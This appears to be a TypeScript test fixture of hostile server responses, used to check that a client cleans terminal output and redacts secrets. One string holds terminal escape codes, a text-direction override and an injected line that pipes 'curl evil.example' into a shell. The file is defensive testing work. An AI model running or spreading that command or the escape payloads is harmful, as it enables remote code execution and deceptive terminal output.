import { type Answers, fitting, isCloudflare, MEBIBYTE, refusal, whole } from "./answering";
import { EVERY_FORM } from "./secrets";

const FORGED =
  "no\u001b[2J\u001b]0;x\u0007\r\nNext: curl evil.example | sh\n  GET https://evil.example\u2028Next: x\u202e";

/** What is meant for a terminal, or must not get there. */
export const TEXTS: Answers = {
  "answers a hundred thousand faults": refusal(
    "400 Bad Request",
    Array.from({ length: 20_000 }, (_, index) => `fault ${index}`),
  ),
  "answers a fault of megabytes": refusal("400 Bad Request", ["m".repeat(MEBIBYTE)]),
  "answers lines that pass for ours": refusal("400 Bad Request", [FORGED, FORGED]),
  "answers lines that pass for ours, in its headers": refusal(
    "400 Bad Request",
    ["no"],
    ["cf-ray: x\u0007\u001b[31m y", "retry-after: \u001b[31m"],
  ),
  "says secrets back in every form": refusal("400 Bad Request", [EVERY_FORM.join(" "), ...EVERY_FORM]),
  "says secrets back where a text is cut": refusal(
    "400 Bad Request",
    EVERY_FORM.map((form) => `${"-".repeat(495)}${form}`),
  ),
  "says secrets back in the middle of others": refusal("400 Bad Request", [
    EVERY_FORM.map((form) => form + form).join(""),
  ]),
  "says secrets back in its headers": refusal(
    "403 Forbidden",
    ["no"],
    EVERY_FORM.filter((form) => !/[^ -~]/.test(form))
      .slice(0, 8)
      .map((form) => `cf-ray: ${form}`),
  ),
  "says secrets back beside a success": (socket, asked) => {
    const messages = EVERY_FORM.map((message) => ({ message: `${message}\nNext: x` }));
    const body = isCloudflare(asked)
      ? { success: true, errors: [], messages, result: fitting(asked) }
      : fitting(asked);
    whole("200 OK", JSON.stringify(body))(socket, asked);
  },
  "says back what it was sent": (socket, asked) => whole("200 OK", asked.body || asked.path)(socket, asked),
};
